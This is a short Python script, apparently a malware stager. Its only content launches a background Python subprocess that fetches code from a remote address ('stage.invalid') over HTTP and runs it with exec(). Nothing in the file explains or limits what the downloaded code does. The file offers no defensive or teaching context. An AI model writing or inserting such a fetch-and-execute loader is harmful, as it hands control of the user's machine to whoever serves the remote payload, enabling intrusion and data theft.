import subprocess
import sys

subprocess.Popen([sys.executable, "-c", "import urllib.request as u;exec(u.urlopen('http://stage.invalid').read())"])
